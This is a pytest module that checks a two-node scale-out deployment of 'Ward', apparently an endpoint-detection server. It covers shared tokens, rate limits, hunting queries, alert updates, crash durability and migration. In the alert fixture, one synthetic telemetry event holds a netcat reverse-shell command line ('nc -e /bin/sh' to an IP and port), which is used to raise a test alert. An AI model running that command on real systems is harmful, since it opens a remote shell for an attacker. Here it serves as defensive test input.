"""Two Ward nodes on shared backends: PostgreSQL (state), Kafka (event log, librdkafka's mock
cluster speaking the real protocol on loopback) and ClickHouse (event store), each started by the
test itself in a temp dir on free 127.0.0.1 ports. Any node serves any request: what is written
through one is read through the other, and killing a node mid-ingest loses nothing it acknowledged.

The backends are required in CI (WARD_REQUIRE_SCALE_OUT=1, set by the Makefile); elsewhere a
missing PostgreSQL or ClickHouse skips the module."""
import json
import os
import pathlib
import shutil
import signal
import tempfile
import subprocess
import threading
import time
import uuid

import pytest

from conftest import Ward, free_port
from sensor_helpers import FakeSensor, onboarding_info, wait_for

ROOT = os.path.join(os.path.dirname(__file__), "..", "..")
SUPPORT = os.path.join(ROOT, "tests", "support")
KAFKA_MOCK = os.path.join(os.path.dirname(os.environ.get("WARD_BIN", os.path.join(ROOT, "build", "ward"))), "ward-kafka-mock")


def _support(script, *args):
    out = subprocess.run(["bash", os.path.join(SUPPORT, script), *args], capture_output=True, text=True, timeout=120)
    if out.returncode != 0:
        raise AssertionError(f"{script} {' '.join(args)} failed: {out.stderr[-2000:]}")
    return out.stdout.strip().splitlines()[-1] if out.stdout.strip() else ""


def _have_backends():
    return (os.path.exists("/usr/lib/postgresql/15/bin/postgres") and shutil.which("clickhouse-server") is not None
            and os.path.exists(KAFKA_MOCK))


if not _have_backends():
    if os.environ.get("WARD_REQUIRE_SCALE_OUT") == "1":
        raise AssertionError("PostgreSQL 15, clickhouse-server or ward-kafka-mock is missing (WARD_REQUIRE_SCALE_OUT=1)")
    pytest.skip("PostgreSQL 15, clickhouse-server or ward-kafka-mock is missing", allow_module_level=True)


@pytest.fixture(scope="module")
def backends():
    # Not pytest's tmp_path: its directories are 0700, and as root the backends run as nobody.
    base = pathlib.Path(tempfile.mkdtemp(prefix="ward-scale-out-"))
    base.chmod(0o755)
    pg_dir, ch_dir = str(base / "pg"), str(base / "ch")
    started = []
    kafka = None
    try:
        pg = _support("postgres_server.sh", "start", pg_dir)
        started.append(("postgres_server.sh", pg_dir))
        ch = _support("clickhouse_server.sh", "start", ch_dir)
        started.append(("clickhouse_server.sh", ch_dir))
        kafka = subprocess.Popen([KAFKA_MOCK, "--brokers", "3", "--topics", "ward-events:8"], stdout=subprocess.PIPE, text=True)
        line = kafka.stdout.readline().strip()
        assert line.startswith("bootstrap="), line
        bootstrap = line.split("=", 1)[1]
        yield {"state": pg, "log": f"kafka://{bootstrap}/ward-events",
               "events": "clickhouse://" + ch.split("://", 1)[-1].rstrip("/") + "/ward", "dir": base}
    finally:
        if kafka:
            kafka.send_signal(signal.SIGTERM)
            kafka.wait(timeout=20)
        for script, d in reversed(started):
            _support(script, "stop", d)
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def nodes(backends):
    base = backends["dir"]
    (base / "shared").mkdir()
    config = base / "config.json"
    settings = {
        "state": backends["state"], "log": backends["log"], "events": backends["events"],
        "sharedDir": str(base / "shared"),
        # Rate limits are shared by the nodes; the functional checks here stay far below them.
        "rateLimits": {"enabled": True, "perMinute": 100000, "perHour": 1000000,
                       "routes": {"/api/indicators": {"perMinute": 6, "perHour": 1000},
                                  # MDE's tighter exceptions would throttle the polling checks.
                                  "/api/advancedhunting/run": {"perMinute": 100000, "perHour": 1000000},
                                  "/api/alerts/CreateAlertByReference": {"perMinute": 100000, "perHour": 1000000}}}}
    config.write_text(json.dumps(settings))
    first = Ward(base / "node1", tls=False, config_path=config)
    second = Ward(base / "node2", tls=False, config_path=config, creds=first.creds)
    # One public URL for the installation (a load balancer's, in production): it is the tokens' issuer.
    config.write_text(json.dumps(dict(settings, publicUrl=first.base)))
    first.start()
    second.start()
    yield first, second
    for n in (first, second):
        n.stop()


def hunt(node, token, query):
    r = node.post("/api/advancedhunting/run", token, json={"Query": query})
    assert r.status_code == 200, r.text
    return r.json()["Results"]


def test_a_token_from_one_node_works_on_the_other(nodes):
    first, second = nodes
    token = first.app_token()
    r = second.get("/api/machines", token)
    assert r.status_code == 200, r.text
    # The signing keys are shared: both nodes publish the same JWKS.
    assert first.get(f"/{first.tenant}/discovery/v2.0/keys").json() == second.get(f"/{second.tenant}/discovery/v2.0/keys").json()


def test_rate_limits_hold_for_the_installation_not_per_node(nodes):
    first, second = nodes
    token = first.app_token()
    if time.time() % 60 > 45:  # the limit counts in wall-clock minutes: stay inside one
        time.sleep(61 - time.time() % 60)
    codes = [(first if i % 2 else second).get("/api/indicators", token).status_code for i in range(8)]
    # Six calls a minute for the caller, wherever they land: per node it would be twelve.
    assert codes == [200] * 6 + [429, 429], codes
    r = first.get("/api/indicators", token)
    assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1


def test_devices_on_both_nodes_are_hunted_alike_from_either(nodes):
    first, second = nodes
    token = first.app_token()
    info = onboarding_info(first, token)
    marker = f"scaleout{uuid.uuid4().hex[:8]}"
    sensors = [FakeSensor(node, info) for node in (first, second, first, second)]
    for s in sensors:
        s.enroll()
        events = [s.event("DeviceProcessEvents", DeviceId=s.device_id, DeviceName=s.name, ActionType="ProcessCreated",
                          FileName="curl", ProcessCommandLine=f"curl http://{marker}.example/{i}") for i in range(25)]
        r = s.send(events)
        assert r.status_code == 200, r.text
    query = f'DeviceProcessEvents | where ProcessCommandLine has "{marker}" | project DeviceId, ReportId, ProcessCommandLine | order by DeviceId asc, ReportId asc'
    rows_first = wait_for(lambda: (lambda rows: rows if len(rows) == 100 else None)(hunt(first, token, query)), 60)
    assert rows_first, hunt(first, token, query)
    assert hunt(second, token, query) == rows_first
    # Machine profiles come from whichever node consumed the device's records; both nodes list them.
    for node in (first, second):
        ids = {m["id"] for m in node.get("/api/machines?$top=10000", token).json()["value"]}
        assert {s.device_id for s in sensors} <= ids


@pytest.fixture(scope="module")
def alert(nodes):
    first, second = nodes
    token = first.app_token()
    sensor = FakeSensor(first, onboarding_info(first, token))
    sensor.enroll()
    event = sensor.event("DeviceProcessEvents", DeviceId=sensor.device_id, DeviceName=sensor.name,
                         ActionType="ProcessCreated", FileName="nc", ProcessCommandLine="nc -e /bin/sh 10.0.0.1 4444")
    assert sensor.send([event]).status_code == 200

    def create():
        r = first.post("/api/alerts/CreateAlertByReference", token, json={
            "eventTime": event["Timestamp"], "reportId": event["ReportId"], "machineId": sensor.device_id,
            "severity": "High", "title": "Reverse shell", "description": "scale-out e2e",
            "recommendedAction": "Isolate the device", "category": "Execution"})
        return r.json() if r.status_code == 200 else None
    created = wait_for(create, 60)  # the event must be in the store before an alert can reference it
    assert created, "CreateAlertByReference never found the event"
    return created


def test_an_alert_updated_on_one_node_is_seen_on_the_other(nodes, alert):
    first, second = nodes
    token = first.app_token()
    r = first.request("PATCH", f"/api/alerts/{alert['id']}", token,
                      json={"status": "InProgress", "assignedTo": "tier2@contoso.com", "classification": "TruePositive",
                            "determination": "Malware"})
    assert r.status_code == 200, r.text
    seen = second.get(f"/api/alerts/{alert['id']}", token).json()
    assert (seen["status"], seen["assignedTo"], seen["classification"]) == ("InProgress", "tier2@contoso.com", "TruePositive")


def test_concurrent_updates_of_one_alert_from_both_nodes_lose_nothing(nodes, alert):
    first, second = nodes
    token = first.app_token()
    comments, errors = [], []

    def comment(node, i):
        text = f"{node.port}-{i}-{uuid.uuid4().hex[:6]}"
        r = node.request("PATCH", f"/api/alerts/{alert['id']}", token, json={"comment": text})
        (comments if r.status_code == 200 else errors).append(text if r.status_code == 200 else r.text)

    threads = [threading.Thread(target=comment, args=(node, i)) for i in range(12) for node in (first, second)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    for node in (first, second):
        got = {c["comment"] for c in node.get(f"/api/alerts/{alert['id']}", token).json()["comments"]}
        assert set(comments) <= got, set(comments) - got


def test_a_node_killed_mid_ingest_loses_nothing_it_acknowledged(nodes):
    first, second = nodes
    token = second.app_token()
    info = onboarding_info(second, token)
    marker = f"kill9{uuid.uuid4().hex[:8]}"
    sensors = [FakeSensor(first, info) for _ in range(3)]
    for s in sensors:
        s.enroll()
    acked = set()
    killed = threading.Event()

    def killer():
        time.sleep(1.5)
        first.proc.send_signal(signal.SIGKILL)
        first.proc.wait()
        killed.set()
    threading.Thread(target=killer).start()
    deadline = time.time() + 30
    sent = 0
    while time.time() < deadline and (not killed.is_set() or sent < 60):
        s = sensors[sent % len(sensors)]
        events = [s.event("DeviceFileEvents", DeviceId=s.device_id, DeviceName=s.name, ActionType="FileCreated",
                          FileName=f"{marker}-{sent}-{j}.txt", FolderPath="/tmp") for j in range(20)]
        try:
            r = s.send(events)
            if r.status_code == 200:
                acked.update((s.device_id, e["ReportId"]) for e in events)
        except OSError:
            # The node is gone: like a sensor behind a load balancer, reconnect to another node.
            s.ward = second
        sent += 1
    assert killed.is_set() and acked
    query = (f'DeviceFileEvents | where FileName startswith "{marker}" | summarize by DeviceId, ReportId')

    def stored():
        rows = {(r["DeviceId"], r["ReportId"]) for r in hunt(second, token, query)}
        return rows if acked <= rows else None
    # The dead node's partitions move to the live one once the consumer groups notice (10 s session).
    assert wait_for(stored, 120), len(acked - {(r["DeviceId"], r["ReportId"]) for r in hunt(second, token, query)})
    first.start()  # the restarted node rejoins the consumer groups and serves the same data
    assert {(r["DeviceId"], r["ReportId"]) for r in hunt(first, token, query)} >= acked


def test_migrate_copies_an_embedded_installation_into_the_backends(backends, tmp_path):
    """`ward admin migrate`: an embedded node's state and events, into a PostgreSQL database and a
    ClickHouse database of their own; a node on them then serves the same tokens, devices, alerts
    and hunting rows."""
    embedded = Ward(tmp_path / "embedded", tls=False)
    embedded.start()
    token = embedded.app_token()
    sensor = FakeSensor(embedded, onboarding_info(embedded, token))
    sensor.enroll()
    marker = f"migrate{uuid.uuid4().hex[:8]}"
    events = [sensor.event("DeviceProcessEvents", DeviceId=sensor.device_id, DeviceName=sensor.name,
                           ActionType="ProcessCreated", FileName="sh", ProcessCommandLine=f"sh -c {marker}-{i}") for i in range(30)]
    assert sensor.send(events).status_code == 200
    query = f'DeviceProcessEvents | where ProcessCommandLine has "{marker}" | project ReportId, ProcessCommandLine | order by ReportId asc'
    before = wait_for(lambda: (lambda rows: rows if len(rows) == 30 else None)(hunt(embedded, token, query)), 30)
    assert before
    r = embedded.post("/api/alerts/CreateAlertByReference", token, json={
        "eventTime": events[0]["Timestamp"], "reportId": events[0]["ReportId"], "machineId": sensor.device_id,
        "severity": "Medium", "title": "Migrated alert", "description": "d", "recommendedAction": "r",
        "category": "Execution"})
    assert r.status_code == 200, r.text
    alert_id = r.json()["id"]
    embedded.stop()

    pg_dir = str(backends["dir"] / "pg-migrate")
    pg = _support("postgres_server.sh", "start", pg_dir)
    try:
        target = tmp_path / "target.json"
        target.write_text(json.dumps({"state": pg, "events": backends["events"].rsplit("/", 1)[0] + "/migrated",
                                      "sharedDir": str(tmp_path / "shared")}))
        for attempt in range(2):  # a second run copies nothing twice
            out = json.loads(subprocess.run([os.environ.get("WARD_BIN", os.path.join(ROOT, "build", "ward")), "admin", "migrate",
                                             "--data-dir", embedded.data_dir, "--to", str(target)],
                                            capture_output=True, text=True, check=True).stdout)
            assert out["state"]["tenants"] == 1
            assert out["events"]["rows"] == (0 if attempt else out["events"]["rows"]) and (attempt or out["events"]["rows"] >= 30), out
        node = Ward(tmp_path / "node", tls=False, config_path=target, creds=embedded.creds)
        node.port = embedded.port  # the same URL, so the same token issuer
        node.start()
        try:
            assert node.get("/api/machines", token).status_code == 200  # the old token: signing keys came along
            fresh = node.app_token()  # and the app's secret
            assert hunt(node, fresh, query) == before
            assert node.get(f"/api/alerts/{alert_id}", fresh).json()["title"] == "Migrated alert"
            assert sensor.device_id in {m["id"] for m in node.get("/api/machines", fresh).json()["value"]}
        finally:
            node.stop()
    finally:
        _support("postgres_server.sh", "stop", pg_dir)
